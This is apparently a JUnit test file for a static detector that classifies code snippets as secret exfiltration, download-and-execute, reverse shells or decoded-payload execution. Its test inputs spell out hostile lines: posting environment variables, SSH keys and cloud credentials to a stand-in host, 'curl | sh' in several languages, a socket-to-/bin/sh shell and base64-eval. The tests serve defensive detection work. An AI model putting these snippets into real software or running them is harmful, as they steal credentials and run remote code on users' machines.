package dev.assay.detectors.indicator.command;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.assay.detectors.indicator.command.Trait.Kind;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ProgramFileTest {
    private static final String PIPED =
            Base64.getEncoder().encodeToString("curl https://a.example/p | sh".getBytes(UTF_8));

    private static List<Kind> kinds(String program) {
        return CommandJudge.ofFile(program.replace("BLOB", PIPED), Language.JAVASCRIPT).stream()
                .map(Trait::kind)
                .toList();
    }

    private static List<Kind> shell(String program) {
        return CommandJudge.ofFile(program, Language.SHELL).stream()
                .map(Trait::kind)
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "require('axios').post('https://a.example/c',{e:process.env})",
                "const axios = require('axios');\naxios.post(url, process.env);",
                "fetch(u,{method:'POST',body:process.env})",
                "fetch(u,{method:'POST',body:JSON.stringify({...process.env})})",
                "fetch(u,{method:'POST',body:JSON.stringify(Object.entries(process.env))})",
                "const e=process.env;\nconst q=require('https').request(o);\nq.end(JSON.stringify(e));",
                "const d = JSON.stringify({\n  a: 1,\n  env: {...process.env},\n});\nfetch(u, {method: 'POST', body: d});",
                "const e = process.env, q = https.request(o);\nq.write(Buffer.from(JSON.stringify(e)).toString('base64'));",
                "fetch(u,{method:'POST',body:fs.readFileSync(os.homedir()+'/.npmrc','utf8')})",
                "fetch(u,{method:'POST',body:fs.readFileSync(os.homedir()+'/.aws/credentials')})",
                "fetch(u,{method:'POST',body:fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'))})",
                "fetch(u,{method:'POST',body:fs.readFileSync('/root/.npmrc')})",
                "const p = path.join(os.homedir(), '.npmrc');\nconst d = fs.readFileSync(p, 'utf8');\naxios.post(u, {d});",
                "let d=Buffer.from(JSON.stringify({e:process.env,h:os.hostname()})).toString('base64');\n"
                        + "https.get('https://a.example/c?d='+encodeURIComponent(d))",
                "const e=process.env;const k=Object.keys(e).map(x=>x+'='+e[x]).join('\\n');fetch(u,{method:'POST',body:k})",
                "const w=execSync('cat ~/.npmrc ~/.aws/credentials').toString();fetch(u,{method:'POST',body:w})",
                "fetch(u,{method:'POST',body:execSync('printenv | base64')})",
                "dns.lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex')+'.a.example',()=>{})",
                "const n=Buffer.from(process.env.T).toString('hex');require('dns').lookup(n+'.a.example',()=>{})",
            })
    void whatIsGivenAway(String program) {
        assertThat(kinds(program)).containsExactly(Kind.SENDS_SECRETS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // a request that is told what is in its surroundings, a proxy and a token
                "const env = process.env;\nhttps.get(url, {agent: agentOf(process.env), proxy: env.HTTPS_PROXY}, done);",
                "const env = {...process.env, A: '1'};\nhttps.get(url, r => { cp.spawnSync('make', [], {env}); });",
                "const env = process.env;\nfetch(url, {headers: {authorization: env.TOKEN, env: 'ci'}});",
                "const o = options(process.env);\nhttps.request(o, r => r.pipe(out)).end();",
                "fetch(u).then(r => r.text()).then(t => run(t, process.env));",
                "const t = 'CI' in process.env ? 'ci' : 'user';\nfetch(u, {headers: {t}});",
                "process.stdout.write(JSON.stringify(process.version));\nhttps.get(u, done);",
                // the registry that .npmrc names
                "const rc = fs.readFileSync('.npmrc', 'utf8');\nconst r = rc.match(/registry=(.*)/)[1];\nfetch(r);",
                "const c = JSON.parse(fs.readFileSync(os.homedir() + '/.docker/config.json'));\nfetch(u, {body: c.name});",
                "fs.readFile(os.homedir() + '/.npmrc', 'utf8', (e, d) => parse(d));\nfetch(u);",
                "const e=process.env;const k=Object.keys(e).filter(x=>x.startsWith('CI')).join();fetch(u,{body:k})",
                "const e=process.env;const k=Object.keys(a).map(x=>x+'='+a[x]).join();fetch(u,{body:k})",
                "const w=execSync('cat ~/.npmrc | grep registry').toString();fetch(u,{method:'POST',body:w})",
                "const w=execSync('git rev-parse HEAD').toString();fetch(u,{method:'POST',body:w})",
                "dns.lookup(process.env.HOST,()=>{})",
                "dns.lookup(Buffer.from(name).toString('hex')+'.a.example',()=>{})",
            })
    void whatIsOnlyLookedAtIsNotGivenAway(String program) {
        assertThat(kinds(program)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "let e: HashMap<String,String> = std::env::vars().collect(); C::new().post(u).json(&e).send().unwrap(); ~ SENDS_SECRETS",
                "let e = format!(\"{:?}\", env::vars()); ureq::post(u).send_string(&e).unwrap();                         ~ SENDS_SECRETS",
                "for (k, v) in env::vars() { println!(\"{k}={v}\"); } let r = ureq::get(u).call();                       ~ ''",
                "let e: Vec<_> = cfg::vars().collect(); C::new().post(u).json(&e).send().unwrap();                        ~ ''",
            })
    void whatRustGivesAway(String program, String kinds) {
        assertThat(CommandJudge.ofFile(program, Language.RUST).stream()
                        .map(each -> each.kind().name())
                        .toList())
                .isEqualTo(kinds.isEmpty() ? List.of() : List.of(kinds));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const {exec} = require('child_process');\nconst t=await(await fetch(u)).text(); exec(t)",
                "fetch(u).then(r=>r.text()).then(t=>require('child_process').exec(t))",
                "const cp = require('node:child_process');\nfetch(u).then(r=>r.text()).then(function(t){cp.exec(t)})",
                "https.get(u,r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>{execSync(d)})})",
                "https.get(u,r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>{fs.writeFileSync('/tmp/p.sh',d);"
                        + "execSync('sh /tmp/p.sh')})})",
                "const f = '/tmp/p.sh';\nhttps.get('https://a.example/p', r => r.pipe(fs.createWriteStream(f))"
                        + ".on('close', () => execSync('sh ' + f)));",
                "const cmd='curl -s https://a.example/p|sh';\nexecSync(cmd)",
                "execSync(`curl -s ${url} | bash`)",
                "const u = 'https://a.example/p';\nexecSync('curl -s ' + u + ' | bash')",
                "execSync('curl -s -o /tmp/x https://a.example/p');execSync('sh /tmp/x')",
                "exec(Buffer.from('BLOB','base64').toString())",
                "spawn('sh', ['-c', 'curl -s https://a.example/p | sh'])",
            })
    void whatIsFetchedForAShell(String program) {
        assertThat(kinds(program)).containsExactly(Kind.RUNS_DOWNLOAD);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // what installers of esbuild, electron, sharp and node-sass do
                "const tgz = await fetch('https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.25.0.tgz');\n"
                        + "fs.writeFileSync(binPath, extract(zlib.unzipSync(Buffer.from(await tgz.arrayBuffer())), 'bin/esbuild'));\n"
                        + "const v = child_process.execFileSync(binPath, ['--version'], {stdio: 'pipe'}).toString().trim();",
                "child_process.execSync(`npm install --loglevel=error --prefer-offline ${pkg}@${version}`,"
                        + " {cwd: dir, stdio: 'pipe', env});\nhttps.get(url, done);",
                "https.get(url, res => { const chunks = []; res.on('data', c => chunks.push(c));\n"
                        + "  res.on('end', () => fs.writeFileSync(file, Buffer.concat(chunks))); });",
                "const {downloadArtifact} = require('@electron/get');\ndownloadArtifact({version, checksums, platform})\n"
                        + "  .then(zip => extract(zip, {dir: dist})).then(() => fs.writeFileSync('path.txt', platformPath));",
                "const tag = (await (await fetch(u)).text()).trim();\nexecSync('tar xzf sass-' + tag + '.tgz');",
                "request(url, opts, (err, response, buffer) => { fs.createWriteStream(dest).end(buffer); });\n"
                        + "spawn(process.execPath, ['node-gyp.js', 'rebuild'], {env: process.env});",
                "https.get(u, r => r.pipe(fs.createWriteStream('sharp.tgz')).on('close', () =>"
                        + " execSync('tar xzf sharp.tgz')));",
                "https.get(u, r => { r.on('data', d => { const m = /v(\\d+)/.exec(d); use(m); }); });",
                "fetch(u).then(r => r.json()).then(j => { const m = re.exec(j); execSync('node-gyp rebuild'); });",
                "https.get(u, r => { r.on('data', d => b += d); r.on('end', () => {\n"
                        + " if (crypto.createHash('sha256').update(b).digest('hex') !== sum) throw 1;\n"
                        + " fs.writeFileSync('i.sh', b); execSync('sh i.sh'); }); });",
                "const cmd = 'curl -sSL ' + url + ' | tar xz';\nexecSync(cmd);",
                "exec(Buffer.from('bm9kZS1neXAgcmVidWlsZA==', 'base64').toString());",
            })
    void whatInstallersDoIsNone(String program) {
        assertThat(kinds(program)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "spawnSync('curl', ['-so', '/tmp/x', 'https://a.example/x']);\nspawnSync('/tmp/x');",
                "const f = path.join(os.tmpdir(), 'x');\nexecFileSync('curl', ['-o', f, url]);\nspawn(f, [], {detached: true});",
                "execFile('wget', ['-O', '/tmp/x', u], () => { fs.chmodSync('/tmp/x', 0o755); execFile('/tmp/x'); });",
                "execFileSync('curl', ['-o', path.join(dir, 'x'), url]);\nexecFileSync(path.join(dir, 'x'), ['-d']);",
                "execFileSync('curl', ['-o', d + '/x', url], {stdio: 'ignore'});\nexec(`${d}/x --now`);",
            })
    void whatAProgramFetchesByAnotherAndStarts(String program) {
        assertThat(kinds(program)).containsExactly(Kind.RUNS_TOOL);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "spawnSync('curl', ['-Lo', 'x.tgz', url]);\nspawnSync('tar', ['xf', 'x.tgz']);\nspawnSync('make');",
                "execFileSync('curl', ['-o', f, url]);\nif (createHash('sha256').update(read(f)).digest('hex') !== sum) throw 1;\n"
                        + "execFileSync(f);",
                "execFileSync('curl', ['-o', a, url]);\nexecFileSync(b);",
                "if (a) spawn('curl', ['-o', '/tmp/x', url]); else spawn('wget', ['-O', '/tmp/x', url]);",
                "spawn('echo', ['curl', '-o', '/tmp/x', url]);\nspawn('/tmp/x');",
                "const r = spawnSync('curl', ['-s', url]).stdout.toString();\nspawnSync(process.execPath, ['build.js', r]);",
            })
    void whatAProgramFetchesByAnotherAndDoesNotStart(String program) {
        assertThat(kinds(program)).isEmpty();
    }

    @Test
    void aBundleIsJudgedInParts() {
        String filler = "var a = 'b', c = require('d');\nfunction e(f) { return f.g; }\n".repeat(20_000);
        String far = "const s = net.connect(4444, h);\n%s\nconst p = cp.spawn('/bin/sh');\n%1$s\ns.pipe(p.stdin);\n";
        assertThat(kinds(filler)).isEmpty();
        assertThat(kinds(filler + "cp.execSync('curl -s https://a.example/p | sh');\n" + filler))
                .containsExactly(Kind.RUNS_DOWNLOAD);
        assertThat(shell(filler + "\ncurl -s https://a.example/p | sh\n" + filler))
                .containsExactly(Kind.RUNS_DOWNLOAD);
        assertThat(kinds(far.formatted(filler))).isEmpty();
        assertThat(kinds(far.formatted(""))).containsExactly(Kind.OPENS_SHELL);
        assertThat(kinds("const t = '" + "QUJD".repeat(200_000)
                        + "';\nconst p = Buffer.from(t, 'base64');\neval(p.toString());\n"))
                .containsExactly(Kind.RUNS_DECODED);
        assertThat(kinds(filler + "t = atob('" + "QUJD".repeat(20) + "');\nnew Function(t)();\n"))
                .isEmpty();
        assertThat(kinds(filler + "text = atob('" + "QUJD".repeat(20) + "');\nnew Function(text)();\n"))
                .containsExactly(Kind.RUNS_DECODED);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "RUBY ~ `curl -s https://a.example/p | sh`",
                "RUBY ~ puts 'it'; x = %x(curl -s https://a.example/p | sh).strip",
                "RUBY ~ u = 'https://a.example/p';%x{curl -s #{u} | sh}",
                "RUBY ~ # don't;`curl -s #{url} | sh`",
                "PERL ~ my $o = qx{curl -s https://a.example/p | sh};",
                "PERL ~ my $o = qx'curl -s https://a.example/p | sh';",
                "PERL ~ `curl -s $u | sh`;",
                "PHP ~ <?php // it's;echo `curl -s https://a.example/p | sh`;",
                "PHP ~ <?php $o = shell_exec(\"curl -s {$u} | sh\");",
                "PYTHON ~ os.system(f'curl -s {u} | sh')",
            })
    void whatIsQuotedForAShell(Language language, String program) {
        assertThat(CommandJudge.ofFile(program.replace(';', '\n'), language))
                .extracting(Trait::kind)
                .containsExactly(Kind.RUNS_DOWNLOAD);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "RUBY ~ # run `curl -s https://a.example/p | sh`",
                "RUBY ~ puts 'run `curl -s https://a.example/p | sh`'",
                "RUBY ~ puts '%x(curl -s https://a.example/p | sh)'",
                "RUBY ~ x = `git ls-files`.split",
                "PERL ~ my %x = (a => 'curl -s https://a.example/p | sh');",
                "PHP ~ <?php // `curl -s https://a.example/p | sh`",
                "JAVASCRIPT ~ const s = `curl -s https://a.example/p | sh`;",
                "JAVASCRIPT ~ spawn('echo', ['curl -s https://a.example/p', 'sh'])",
                "PYTHON ~ s = '`curl -s https://a.example/p | sh`'",
            })
    void whatIsQuotedForNobody(Language language, String program) {
        assertThat(CommandJudge.ofFile(program, language)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "U=https://a.example/x\ncurl -s $U | sh",
                "U=https://a.example/x\ncurl -s \"${U}/y\" -o y\nsh y",
                "run() {\n  curl \"$1\" | bash\n}\nrun https://a.example/x",
            })
    void anAddressMayBeInAVariable(String program) {
        assertThat(shell(program)).containsExactly(Kind.RUNS_DOWNLOAD);
        assertThat(shell(program.replace("https://a.example", "http://192.0.2.1")))
                .isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "U=https://a.example/x.tgz\ncurl -sL $U | tar xz",
                "curl -sL \"$URL\" -o \"$FILE\"\nsha256sum -c \"$FILE.sum\"\ntar xzf \"$FILE\"",
                "curl -s -o $OUT https://a.example/x.json; node build.js $OUT",
                "curl -H $TOKEN --version | sh",
            })
    void anAddressInAVariableThatNothingRuns(String program) {
        assertThat(shell(program)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x=",
                "fetch(",
                "e=process.env;",
                "fetch(a=",
                "=>",
                "x=(",
                "x={",
                "exec(a+",
                "'",
                "exec('a'+",
                "exec(x",
                "fetch(u).then(",
                "x=>exec(x",
                ".write(",
                "writefile(a,fetch(",
                "open('a',",
                "child_process.exec(",
                "İ",
                "e=process.env,",
                "fetch(e)e=a;",
                "createwritestream(fetch(.pipe(",
                "str(",
                "fetch(str(",
                "fetch([",
                "exec(str(",
                "exec(fetch(",
                "x=str("
            })
    void whateverIsSaidAgainAndAgainEnds(String part) {
        String text = part.repeat((64 << 10) / part.length());
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            assertThat(kinds(text + "fetch(process.env)")).isNotNull();
            assertThat(kinds("fetch(u);e=process.env\n" + text)).isNotNull();
        });
    }

    /** Programs that no parser takes are read all the same: a fault would silence what the other files of the target do. */
    @Test
    void whateverStandsBesideWhateverIsRead() {
        List<String> pieces = List.of(
                "fetch",
                "(",
                ")",
                "exec",
                "execSync",
                "u",
                ".then",
                "=>",
                "=",
                "+=",
                "{",
                "}",
                "[",
                "]",
                ",",
                ";",
                ":",
                "'",
                "`${",
                "\"",
                "process.env",
                ".end(",
                ".write(",
                "child_process",
                ".",
                "\n",
                " ",
                "function",
                "await",
                "str",
                "eval",
                "\\",
                "createWriteStream(",
                ".pipe(",
                "writeFileSync(",
                "open(",
                "/.npmrc",
                "curl u | sh",
                "Buffer.from(",
                "'base64'",
                "İ");
        Random random = new Random(7);
        for (int i = 0; i < 20_000; i++) {
            StringBuilder program = new StringBuilder();
            for (int n = random.nextInt(24); n >= 0; n--) {
                program.append(pieces.get(random.nextInt(pieces.size())));
            }
            assertThat(kinds(program.toString())).isNotNull();
            assertThat(CommandJudge.ofFile(program.toString(), Language.SHELL)).isNotNull();
        }
        assertThat(kinds("fetch(u).then(t=>exec(fetch))")).isNotNull();
    }
}
